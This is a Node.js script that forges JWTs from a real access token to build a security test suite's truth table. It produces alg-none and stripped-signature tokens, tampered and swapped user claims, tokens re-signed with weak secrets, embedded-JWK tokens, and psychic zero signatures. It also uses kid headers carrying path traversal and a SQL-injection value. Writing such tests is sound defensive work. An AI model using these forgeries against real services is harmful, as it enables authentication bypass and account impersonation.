#!/usr/bin/env node
// forge.js - the forged tokens with which the truth table of
// tests/data/truth/api-express.txt was established by hand, made from a
// real access token of server.js with node's own crypto only (no
// jsonwebtoken, no authprobe), so that the table does not depend on the
// code it judges. Kept as the record of how each API-2x verdict was found;
// the test does not run it.
//
//   node forge.js TOKEN [OTHER_USERNAME [CLAIM]]
//
// prints one "NAME TOKEN" line per forgery of docs/api-suite.md API-20a..
// API-28 (API-24 needs a published public key, which this API has not):
//   none-*          alg none/None/NONE/nOnE, empty signature      (API-20a)
//   nonesig-*       the same with the real signature kept          (API-20b)
//   stripped        the real header and claims, no signature       (API-21)
//   tamper-exp      exp one day later, the real signature kept     (API-22)
//   tamper-user     sub/username of OTHER_USERNAME, signature kept (API-22)
//   weak-*          HS256 with each weak secret of the list        (API-23)
//   jwk-es256       ES256 by a fresh key, its public JWK in "jwk"  (API-25)
//   kid-devnull     kid ../../../../../../dev/null, HS256 key ""   (API-26)
//   kid-sql         kid x' UNION SELECT 'authprobe'--, HS256 key "authprobe" (API-26)
//   psychic         alg ES256, signature r = s = 0 (64 zero bytes) (API-28)
//   swap            CLAIM (default sub) set to OTHER_USERNAME (a number when
//                   it is digits: simplejwt's user_id), signature kept (API-29)
//   swap-weak-*     the same, HS256 with each weak secret           (API-29)
// (API-27a/b: keyurl.js)
'use strict';

const crypto = require('node:crypto');

const WEAK = ['secret', '', 'changeme', 'your-256-bit-secret', 'password', 'key', 'jwt_secret',
  'secretkey', 'supersecret', 'test', '123456', 'your-secret-key', 'mysecret', 'SECRET_KEY',
  'django-insecure'];

const b64u = (buf) => Buffer.from(buf).toString('base64url');
const enc = (obj) => b64u(JSON.stringify(obj));
const dec = (part) => JSON.parse(Buffer.from(part, 'base64url').toString('utf8'));
const hs256 = (input, key) => b64u(crypto.createHmac('sha256', key).update(input).digest());

function main(argv) {
  if (argv.length < 1) {
    process.stderr.write('usage: node forge.js TOKEN [OTHER_USERNAME [CLAIM]]\n');
    return 2;
  }
  const [token, other, claim = 'sub'] = argv;
  const [h, p, sig] = token.split('.');
  const header = dec(h);
  const claims = dec(p);
  const out = [];

  for (const alg of ['none', 'None', 'NONE', 'nOnE']) {
    const hp = `${enc({ ...header, alg })}.${p}`;
    out.push([`none-${alg}`, `${hp}.`]);
    out.push([`nonesig-${alg}`, `${hp}.${sig}`]);
  }
  out.push(['stripped', `${h}.${p}.`]);
  out.push(['tamper-exp', `${h}.${enc({ ...claims, exp: claims.exp + 86400 })}.${sig}`]);
  if (other) {
    out.push(['tamper-user', `${h}.${enc({ ...claims, sub: other, username: other })}.${sig}`]);
  }
  const hsHeader = enc({ alg: 'HS256', typ: 'JWT' });
  WEAK.forEach((secret, i) => {
    out.push([`weak-${i}:${JSON.stringify(secret)}`, `${hsHeader}.${p}.${hs256(`${hsHeader}.${p}`, secret)}`]);
  });

  if (other) {
    const swapped = enc({ ...claims, [claim]: /^[0-9]+$/.test(other) ? Number(other) : other });
    out.push(['swap', `${h}.${swapped}.${sig}`]);
    WEAK.forEach((secret, i) => {
      out.push([`swap-weak-${i}:${JSON.stringify(secret)}`, `${h}.${swapped}.${hs256(`${h}.${swapped}`, secret)}`]);
    });
  }

  const { privateKey, publicKey } = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwkHeader = enc({ alg: 'ES256', typ: 'JWT', jwk: publicKey.export({ format: 'jwk' }) });
  const jwkSig = crypto.sign('sha256', Buffer.from(`${jwkHeader}.${p}`),
    { key: privateKey, dsaEncoding: 'ieee-p1363' });
  out.push(['jwk-es256', `${jwkHeader}.${p}.${b64u(jwkSig)}`]);

  const kidFile = enc({ alg: 'HS256', typ: 'JWT', kid: '../../../../../../dev/null' });
  out.push(['kid-devnull', `${kidFile}.${p}.${hs256(`${kidFile}.${p}`, '')}`]);
  const kidSql = enc({ alg: 'HS256', typ: 'JWT', kid: "x' UNION SELECT 'authprobe'--" });
  out.push(['kid-sql', `${kidSql}.${p}.${hs256(`${kidSql}.${p}`, 'authprobe')}`]);

  const es = enc({ alg: 'ES256', typ: 'JWT' });
  out.push(['psychic', `${es}.${p}.${b64u(Buffer.alloc(64))}`]);

  for (const [name, t] of out) process.stdout.write(`${name} ${t}\n`);
  return 0;
}

process.exitCode = main(process.argv.slice(2));
